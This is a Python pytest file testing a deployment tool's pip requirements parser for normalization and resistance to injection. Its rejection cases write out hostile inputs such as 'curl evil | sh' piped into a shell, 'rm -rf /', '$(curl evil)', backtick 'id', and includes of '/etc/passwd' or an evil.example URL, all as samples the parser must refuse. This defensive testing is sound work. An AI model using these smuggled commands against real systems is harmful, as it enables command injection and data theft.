"""Requirement lines and files: parsed, normalized, and injection-proof."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from deployer.environment.requirements import (
    parse_requirement_line,
    read_requirement_lines,
    read_requirements_file,
    split_file_lines,
)
from deployer.errors import EnvironmentSpecError, UnsafePathError

W = "requirements.txt:1"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("scikit-learn==1.5.0", "scikit-learn==1.5.0"),
        ("  pandas >= 2 , < 3  ", "pandas<3,>=2"),
        ("mlflow[extras]==3.17.2", "mlflow[extras]==3.17.2"),
        ("numpy; python_version < '3.12'", 'numpy; python_version < "3.12"'),
        ("numpy==2.0 # pinned for ABI", "numpy==2.0"),
        ("pkg @ https://files.example.org/pkg-1.0-py3-none-any.whl", "pkg @ https://files.example.org/pkg-1.0-py3-none-any.whl"),
        ("git+https://github.com/org/repo.git@v1.2#egg=repo", "git+https://github.com/org/repo.git@v1.2#egg=repo"),
        ("https://files.example.org/pkg-1.0.tar.gz", "https://files.example.org/pkg-1.0.tar.gz"),
        ("wheels/mypkg-0.1-py3-none-any.whl", "wheels/mypkg-0.1-py3-none-any.whl"),
        ("./wheels/mypkg-0.1.tar.gz", "wheels/mypkg-0.1.tar.gz"),
        ("six==1.16.0 --hash=sha256:8ABC0123", "six==1.16.0 --hash=sha256:8abc0123"),
        ("", None),
        ("   ", None),
        ("# a comment", None),
    ],
)
def test_accepted_and_normalized(line: str, expected: str | None) -> None:
    assert parse_requirement_line(line, where=W) == expected


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("numpy\nRUN curl evil | sh", "newline or control character"),
        ("numpy\r\nx", "newline or control character"),
        ("numpy\x00", "newline or control character"),
        ("numpy; rm -rf /", "unsupported per-requirement option '-rf'"),
        ("numpy; rm x", "invalid requirement"),
        ("numpy; platform_machine == \"x'y\"", "\"'\""),
        ("numpy && curl evil", "invalid requirement"),
        ("numpy $(curl evil)", "'$'"),
        ("numpy`id`", "'`'"),
        ("numpy==1.0'; touch x; '", "invalid requirement"),
        ("numpy \\", "'\\\\'"),
        ("-r other.txt", "is a pip option"),
        ("--index-url https://x/simple", "is a pip option"),
        ("numpy --global-option=build_ext", "unsupported per-requirement option"),
        ("numpy --hash=md5:abc", "unsupported per-requirement option"),
        ("file:///home/me/pkg.whl", "points at a file on the machine"),
        ("pkg @ file:///home/me/pkg.whl", "unsupported URL"),
        ("../outside/pkg.whl", "contains '..'"),
        ("/abs/pkg.whl", "absolute path"),
        ("src/mypkg", "not a package archive"),
        ("https://host/pkg.whl\"", "characters a URL cannot contain"),
        ("===", "invalid requirement"),
    ],
)
def test_rejected_with_file_and_line(line: str, message: str) -> None:
    with pytest.raises((EnvironmentSpecError, UnsafePathError)) as exc:
        parse_requirement_line(line, where=W)
    assert message in exc.value.what
    assert exc.value.where == W
    assert exc.value.fix


def test_messages_are_single_line() -> None:
    with pytest.raises(EnvironmentSpecError) as exc:
        parse_requirement_line("numpy==1.0'; touch x; '", where=W)
    assert "\n" not in exc.value.what


def test_non_string_rejected() -> None:
    with pytest.raises(EnvironmentSpecError, match="must be a string"):
        parse_requirement_line(3, where=W)  # type: ignore[arg-type]


_FORBIDDEN = re.compile(r"[\x00-\x1f\x7f'`$\\]")


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60))
def test_whatever_is_accepted_is_shell_safe(line: str) -> None:
    """Property: an accepted line never carries characters that break single-quoting."""
    try:
        out = parse_requirement_line(line, where=W)
    except (EnvironmentSpecError, UnsafePathError):
        return
    if out is not None:
        assert not _FORBIDDEN.search(out)
        assert not out.startswith("-")


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(["numpy", "pandas==2.0", "scikit-learn>=1"]), st.text(max_size=30))
def test_suffixes_cannot_smuggle_commands(base: str, suffix: str) -> None:
    try:
        out = parse_requirement_line(base + suffix, where=W)
    except (EnvironmentSpecError, UnsafePathError):
        return
    if out is not None:
        assert not _FORBIDDEN.search(out)


def test_continuation_lines_are_joined() -> None:
    assert split_file_lines("numpy==2.0 \\\n  --hash=sha256:aa \\\n  --hash=sha256:bb\npandas\n") == [
        "numpy==2.0    --hash=sha256:aa    --hash=sha256:bb",
        "pandas",
    ]


# --- files ------------------------------------------------------------------------------------


def _model(tmp_path: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    return tmp_path


def _read(model: Path, ref: str = "requirements.txt"):  # type: ignore[no-untyped-def]
    return read_requirements_file(ref, model_dir=model, base_dir=model, where="python_env.yaml")


def test_nested_requirement_and_constraint_files(tmp_path: Path) -> None:
    model = _model(tmp_path, {
        "requirements.txt": "mlflow==3.17.2\n-r reqs/extra.txt\n-c constraints.txt\npandas  # data\n",
        "reqs/extra.txt": "scikit-learn==1.5.0\n-r more.txt\n",
        "reqs/more.txt": "scipy\n",
        "constraints.txt": "numpy<3\n--constraint=c2.txt\n",
        "c2.txt": "pyarrow<20\n",
    })
    got = _read(model)
    assert got.requirements == ["mlflow==3.17.2", "scikit-learn==1.5.0", "scipy", "pandas"]
    assert got.constraints == ["numpy<3", "pyarrow<20"]
    assert got.files == ["requirements.txt", "reqs/extra.txt", "reqs/more.txt", "constraints.txt", "c2.txt"]


def test_duplicates_dropped_order_kept(tmp_path: Path) -> None:
    model = _model(tmp_path, {"requirements.txt": "b\na\nb\n"})
    assert _read(model).requirements == ["b", "a"]


def test_index_options(tmp_path: Path) -> None:
    model = _model(tmp_path, {
        "requirements.txt": (
            "--index-url https://pypi.internal.example/simple\n"
            "--extra-index-url=https://u:p@extra.example/simple\n"
            "-f https://wheels.example/links\n"
            "--find-links wheels/\n"
            "--trusted-host extra.example\n"
            "-ihttps://pypi.internal.example/simple\n"
            "numpy\n"
        ),
        "wheels/a-1.0-py3-none-any.whl": "",
    })
    got = _read(model)
    assert got.index_url == "https://pypi.internal.example/simple"
    assert got.extra_index_urls == ["https://u:p@extra.example/simple"]
    assert got.find_links == ["https://wheels.example/links", "wheels/"]
    assert got.requirements == ["numpy"]
    assert any("--trusted-host is ignored" in w for w in got.warnings)


def test_env_var_reference_in_index_url_kept(tmp_path: Path) -> None:
    """pip expands ${VAR} at install time: the documented way to keep tokens out of files."""
    model = _model(tmp_path, {"requirements.txt": "--extra-index-url https://${PIP_USER}:${PIP_TOKEN}@h.example/simple\n"})
    assert _read(model).extra_index_urls == ["https://${PIP_USER}:${PIP_TOKEN}@h.example/simple"]


def test_local_wheels_must_exist_inside_model(tmp_path: Path) -> None:
    model = _model(tmp_path, {"requirements.txt": "wheels/a-1.0-py3-none-any.whl\n", "wheels/a-1.0-py3-none-any.whl": "x"})
    got = _read(model)
    assert got.requirements == ["wheels/a-1.0-py3-none-any.whl"]
    assert got.local_archives == ["wheels/a-1.0-py3-none-any.whl"]
    (model / "wheels" / "a-1.0-py3-none-any.whl").unlink()
    with pytest.raises(EnvironmentSpecError, match="not in the model directory"):
        _read(model)


@pytest.mark.parametrize(
    ("content", "exc_type", "message"),
    [
        ("-r ../outside.txt\n", UnsafePathError, "contains '..'"),
        ("-r /etc/passwd\n", UnsafePathError, "absolute path"),
        ("-r https://evil.example/r.txt\n", EnvironmentSpecError, "is a URL"),
        ("-r missing.txt\n", EnvironmentSpecError, "does not exist"),
        ("-r requirements.txt\n", EnvironmentSpecError, "loop"),
        ("-e git+https://github.com/x/y.git#egg=y\n", EnvironmentSpecError, "editable requirement"),
        ("--global-option build\n", EnvironmentSpecError, "unsupported pip option"),
        ("--index-url\n", EnvironmentSpecError, "needs a value"),
        ("--index-url file:///srv/simple\n", EnvironmentSpecError, "must be an http(s) URL"),
        ("--index-url https://h/simple;id\n", EnvironmentSpecError, "characters a URL cannot contain"),
        ("--extra-index-url https://$TOKEN@h/simple\n", EnvironmentSpecError, "characters a URL cannot contain"),
        ("--find-links ../wheels\n", UnsafePathError, "contains '..'"),
        ("numpy\nbad requirement here\n", EnvironmentSpecError, "invalid requirement"),
    ],
)
def test_file_errors(tmp_path: Path, content: str, exc_type: type, message: str) -> None:
    model = _model(tmp_path / "model", {"requirements.txt": content})
    with pytest.raises(exc_type) as exc:
        _read(model)
    assert message in exc.value.what


def test_error_names_file_and_line(tmp_path: Path) -> None:
    model = _model(tmp_path, {"requirements.txt": "numpy\n# ok\npandas; rm -rf /\n"})
    with pytest.raises(EnvironmentSpecError) as exc:
        _read(model)
    assert exc.value.where == f"{model / 'requirements.txt'}:3"


def test_symlinked_requirement_file_outside_refused(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("numpy\n")
    model = _model(tmp_path / "m", {"requirements.txt": "-r link.txt\n"})
    (model / "link.txt").symlink_to(outside)
    with pytest.raises(UnsafePathError, match="outside the model directory"):
        _read(model)


def test_include_depth_limited(tmp_path: Path) -> None:
    files = {f"r{i}.txt": f"-r r{i + 1}.txt\n" for i in range(12)}
    files["r12.txt"] = "numpy\n"
    model = _model(tmp_path, files)
    with pytest.raises(EnvironmentSpecError, match="nest deeper"):
        _read(model, "r0.txt")


def test_credentials_never_in_errors_or_warnings(tmp_path: Path) -> None:
    secret = "https://alice:hunter2@pkgs.example.org/simple"
    model = _model(tmp_path, {"requirements.txt": f"--index-url {secret}\n--index-url https://bob:pw2@other.example/simple\n"})
    got = _read(model)
    assert got.warnings and all("hunter2" not in w and "pw2" not in w for w in got.warnings)
    bad = _model(tmp_path / "bad", {"requirements.txt": "--index-url https://alice:hunter2@h.example/x'y\n"})
    with pytest.raises(EnvironmentSpecError) as exc:
        _read(bad)
    assert "hunter2" not in exc.value.format_message()
    assert "***@" in exc.value.what


def test_yaml_list_entries_must_be_strings(tmp_path: Path) -> None:
    with pytest.raises(EnvironmentSpecError, match="expected a requirement string") as exc:
        read_requirement_lines(["numpy", 3], model_dir=tmp_path, base_dir=tmp_path, where=lambda n: f"python_env.yaml (dependencies[{n - 1}])")
    assert exc.value.where == "python_env.yaml (dependencies[1])"


def test_yaml_list_entry_with_newline_refused(tmp_path: Path) -> None:
    with pytest.raises(EnvironmentSpecError, match="newline"):
        read_requirement_lines(["numpy\n-r /etc/passwd"], model_dir=tmp_path, base_dir=tmp_path, where=lambda n: f"x[{n}]")
